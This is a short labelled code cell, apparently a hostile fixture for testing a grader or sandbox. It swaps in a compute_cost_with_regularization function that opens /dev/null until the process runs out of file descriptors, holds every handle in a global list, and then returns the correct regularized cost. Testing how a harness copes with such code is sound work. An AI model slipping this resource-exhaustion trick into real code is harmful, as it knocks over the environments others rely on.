# label: opens files until no descriptor is left, then answers right
# replace: compute_cost_with_regularization
# hostile: yes
# compute_cost_with_regularization: error | failed | timeout | passed

# %%
leak = []

def compute_cost_with_regularization(A3, Y, parameters, lambd):
    kept = []
    try:
        while True:
            kept.append(open('/dev/null'))
    except OSError:
        leak.extend(kept)
    squares = sum(np.sum(parameters[w] ** 2) for w in ("W1", "W2", "W3"))
    return compute_cost(A3, Y) + lambd / (2 * Y.shape[1]) * squares
